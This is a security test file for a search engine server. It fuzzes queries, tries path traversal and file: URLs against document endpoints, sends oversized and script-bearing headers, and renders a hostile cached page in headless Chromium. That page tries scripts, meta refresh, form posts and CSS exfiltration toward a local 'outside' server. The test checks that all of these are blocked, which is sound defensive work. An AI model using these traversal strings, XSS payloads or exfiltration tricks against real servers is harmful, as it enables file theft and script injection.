/**
 * The searcher facing a hostile public: fuzzed queries (random Unicode,
 * 100 KB inputs, unbalanced quotes, every field), the document pages with
 * URLs that are not in the index, `../`, `file:` and encoded forms, absurd
 * headers and parameter counts — never a 500 and never a file from outside
 * the crawl directory; and a stored page that tries script, handlers, meta
 * refresh, forms, frames, `<base>` and CSS exfiltration, opened in headless
 * Chromium: nothing runs and nothing loads from a server of its choosing
 * (an "outside" server on another loopback address counts every request).
 */
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { Conf } from '../../shared/conf.js';
import { startSearcher, type RunningSearcher } from '../../searcher/server.js';
import { buildCrawl, tempCrawlDir, type FixturePage } from '../searcher/crawl-fixture.js';
import { PAGES } from '../searcher/pages.js';

const HOST = '127.0.14.1';
const OUTSIDE_HOST = '127.0.14.2';
let dir = '';
let s: RunningSearcher;
let outside: http.Server;
let outsideUrl = '';
const outsideHits: string[] = [];

/** A page that tries everything a page can try in the cached view, aimed at the outside server. */
function hostilePage(o: string): FixturePage {
  const body = `<!doctype html><html><head><base href="${o}/base/">
<meta http-equiv="refresh" content="0; url=${o}/refresh">
<link rel="stylesheet" href="${o}/style.css"><link rel="prefetch" href="${o}/prefetch">
<style>@import url("${o}/import.css"); body { background: url("${o}/bg.png") } input[value^="s"] { background: url("${o}/exfil?s") }</style>
<script>window.__pwned = 1; fetch("${o}/fetch")</script><script src="${o}/script.js"></script>
<title>Hostile cached page</title></head>
<body onload="window.__pwned = 2"><h1>Hostile cached page</h1>
<img src="${o}/img.png" onerror="window.__pwned = 3"><img src="x" onerror="window.__pwned = 4">
<iframe src="${o}/frame"></iframe><object data="${o}/object"></object><embed src="${o}/embed">
<form action="${o}/form" method="post"><input name="secret" value="s3cret"><button id="go">go</button></form>
<video poster="${o}/poster.png"></video><svg><image href="${o}/svg.png"/></svg>
<a id="link" href="relative">a relative link</a><p>hostile words to find it by</p></body></html>`;
  return { url: 'http://hostile.test/page', title: 'Hostile cached page', text: 'hostile words to find it by', body };
}

test.before(async () => {
  outside = http.createServer((req, res) => {
    outsideHits.push(req.url ?? '');
    res.end('x');
  });
  await new Promise<void>((r) => outside.listen(0, OUTSIDE_HOST, () => r()));
  outsideUrl = `http://${OUTSIDE_HOST}:${(outside.address() as net.AddressInfo).port}`;
  dir = tempCrawlDir();
  fs.writeFileSync(`${dir}/secret.txt`, 'TOP-SECRET-FILE-CONTENT');
  await buildCrawl(dir, [...PAGES, hostilePage(outsideUrl)]);
  s = await startSearcher(Conf.load(), { dir, port: 0, host: HOST });
});

test.after(async () => {
  await s?.close();
  await new Promise<void>((r) => outside?.close(() => r()));
  fs.rmSync(dir, { recursive: true, force: true });
});

/** A deterministic generator, so a failure can be replayed. */
function rng(seed: number): () => number {
  let x = seed >>> 0 || 1;
  return () => ((x = (x * 1103515245 + 12345) >>> 0), x / 2 ** 32);
}

function randomUnicode(r: () => number, n: number): string {
  const parts: string[] = [];
  for (let i = 0; i < n; i++) {
    const k = r();
    if (k < 0.3) parts.push(String.fromCharCode(32 + Math.floor(r() * 95)));
    else if (k < 0.45) parts.push(['"', "'", '(', ')', '-', '+', ':', '*', '\\', '%', '&', '#', '?', '\u0000', '\ud800', '\u202e'][Math.floor(r() * 16)]!);
    else if (k < 0.6) parts.push(['site:', 'type:', 'lang:', 'host:', 'date:', 'url:', 'title:', 'anchor:', 'domain:', 'before:', 'after:'][Math.floor(r() * 11)]!);
    else {
      const cp = Math.floor(r() * 0x10ffff);
      parts.push(cp >= 0xd800 && cp <= 0xdfff ? '\ufffd' : String.fromCodePoint(cp));
    }
  }
  return parts.join('');
}

async function get(pathAndQuery: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
  const r = await fetch(`${s.url}${pathAndQuery}`, { headers, redirect: 'manual' });
  return { status: r.status, body: await r.text() };
}

test('fuzzed queries on every endpoint: no 500, answers in bounded time', async () => {
  const r = rng(12);
  const inputs = [
    '"unbalanced',
    '"""',
    "'",
    '((((',
    '-',
    '-"-"',
    'site:',
    'type: lang: site:"',
    '*'.repeat(1000),
    'a'.repeat(100_000),
    Array.from({ length: 5000 }, (_, i) => `w${i}`).join(' '),
    '\u0000\u0001\u0002',
    '%00%ff%fe',
    '\ud800',
    ...Array.from({ length: 60 }, () => randomUnicode(r, 1 + Math.floor(r() * 80))),
  ];
  const bad: string[] = [];
  for (const q of inputs) {
    for (const endpoint of ['/search?query=', '/api/search?query=', '/opensearch?query=']) {
      for (const extra of ['', '&start=-5&hitsPerPage=99999999', '&start=1e309&hitsPerPage=NaN&lang=%ff&type=../../x&query=%ud800%ff%']) {
        const t = Date.now();
        let status: number;
        try {
          status = (await get(`${endpoint}${encodeURIComponent(q.replace(/[\ud800-\udfff]/gu, "\ufffd"))}${extra}`)).status;
        } catch (e) {
          status = -1;
          bad.push(`${endpoint} ${JSON.stringify(q.slice(0, 40))}: ${(e as Error).message}`);
        }
        if (status >= 500) bad.push(`${endpoint}${JSON.stringify(q.slice(0, 40))}${extra}: ${status}`);
        if (Date.now() - t > 10_000) bad.push(`${endpoint}${JSON.stringify(q.slice(0, 40))}: ${Date.now() - t} ms`);
      }
    }
  }
  assert.equal(bad, []);
});

test('document pages with URLs not in the index, ../, file: and encoded forms: 404, never a file', async () => {
  const urls = [
    'http://not.in/index',
    '../secret.txt',
    '../../etc/passwd',
    '/etc/passwd',
    'file:///etc/passwd',
    `file://${dir}/secret.txt`,
    'http://hostile.test/../../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e/%2e%2e/etc/passwd',
    '%252e%252e%252fsecret.txt',
    '....//....//etc/passwd',
    'http://hostile.test/page\u0000.txt',
    '\\..\\..\\secret.txt',
    '',
  ];
  const bad: string[] = [];
  for (const u of urls)
    for (const endpoint of ['/cached', '/cached/raw', '/text', '/anchors', '/explain']) {
      for (const form of [encodeURIComponent(u), u]) {
        let res: { status: number; body: string };
        try {
          res = await get(`${endpoint}?url=${form}&query=x`);
        } catch (e) {
          bad.push(`${endpoint}?url=${form}: ${(e as Error).message}`);
          continue;
        }
        if (res.status >= 500 || res.status === 200) bad.push(`${endpoint}?url=${form}: ${res.status}`);
        if (/root:x:0:0|TOP-SECRET-FILE-CONTENT/.test(res.body)) bad.push(`${endpoint}?url=${form}: a file's content`);
      }
    }
  // Path tricks on the server's own paths.
  for (const p of ['/../secret.txt', '/%2e%2e/secret.txt', '/static/../../secret.txt', '/cached/../../secret.txt', '//etc/passwd', '/cached%00']) {
    const res = await get(p);
    if (res.status >= 500 || /root:x:0:0|TOP-SECRET-FILE-CONTENT/.test(res.body)) bad.push(`${p}: ${res.status}`);
  }
  assert.equal(bad, []);
});

test('absurd headers and parameter counts: refused or answered, never a 500', async () => {
  const bad: string[] = [];
  const tries: [string, Record<string, string>][] = [
    [`/search?${Array.from({ length: 10_000 }, (_, i) => `p${i}=${i}`).join('&')}&query=x`, {}],
    [`/search?${'query=a&'.repeat(5000)}`, {}],
    ['/search?query=x', { 'x-big': 'y'.repeat(60_000) }],
    ['/search?query=x', { 'accept-language': 'zz;q=2,'.repeat(2000) }],
    ['/search?query=x', { host: 'evil.example' }],
    ['/search?query=x', { 'x-forwarded-host': '"><script>alert(1)</script>' }],
    ['/opensearch.xml', { host: '"><script>alert(1)</script>' }],
    ['/api/search?query=x', { accept: '*/*;' + 'q=1;'.repeat(5000) }],
  ];
  for (const [p, h] of tries) {
    try {
      const res = await get(p, h);
      if (res.status >= 500) bad.push(`${p.slice(0, 40)} ${Object.keys(h)}: ${res.status}`);
      if (/<script>alert\(1\)<\/script>/.test(res.body)) bad.push(`${p.slice(0, 40)}: the header comes back unescaped`);
    } catch (e) {
      // An oversized header may be refused by closing the connection: that is an answer too.
      if (!/fetch failed|other side closed|socket/i.test((e as Error).message)) bad.push(`${p.slice(0, 40)}: ${(e as Error).message}`);
    }
  }
  const raw = await new Promise<string>((resolve) => {
    const sock = net.connect(Number(new URL(s.url).port), HOST, () => sock.write(`GET /search?query=x HTTP/1.1\r\nHost: x\r\n${'X-A: b\r\n'.repeat(3000)}\r\n`));
    let got = '';
    sock.on('data', (d) => (got += d.toString()));
    sock.on('close', () => resolve(got));
    sock.on('error', () => resolve(got));
    sock.setTimeout(5000, () => sock.destroy());
  });
  if (/^HTTP\/1\.1 5/.test(raw)) bad.push(`3000 headers: ${raw.slice(0, 40)}`);
  assert.equal(bad, []);
  assert.is((await get('/healthz')).status, 200, 'still serving');
});

test('a hostile stored page in the cached view, in Chromium: nothing runs, nothing loads from outside', async () => {
  let browser: Browser | undefined;
  try {
    browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'],
    });
    const ctx = await browser.newContext();
    let dialogs = 0;
    ctx.on('page', (p) => p.on('dialog', (d) => (dialogs++, void d.dismiss())));
    // Only the searcher and the outside server exist; anything else would leave the machine.
    await ctx.route(new RegExp(`^https?://(?!${HOST.replace(/\./g, '\\.')}|${OUTSIDE_HOST.replace(/\./g, '\\.')})`), (r) => r.abort());
    const page = await ctx.newPage();
    page.on('dialog', (d) => (dialogs++, void d.dismiss()));
    const cachedUrl = `${s.url}/cached?url=${encodeURIComponent('http://hostile.test/page')}`;
    await page.goto(cachedUrl);
    await page.waitForTimeout(1500); // a meta refresh of 0 s, onload handlers, lazy loads: give them time
    assert.is(page.url(), cachedUrl, 'the meta refresh did not navigate');
    await page.locator('#go').click({ timeout: 2000 }).catch(() => undefined);
    await page.waitForTimeout(500);
    const pwned = await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned).catch(() => undefined);
    assert.is(pwned, undefined, 'no script or handler ran');
    assert.is(dialogs, 0);
    assert.equal(outsideHits, [], 'nothing was loaded from the outside server');
    // The results page and the text view of the same document, too.
    await page.goto(`${s.url}/search?query=hostile`);
    await page.goto(`${s.url}/text?url=${encodeURIComponent('http://hostile.test/page')}`);
    await page.waitForTimeout(300);
    assert.equal(outsideHits, []);
  } finally {
    await browser?.close();
  }
});

test.run();
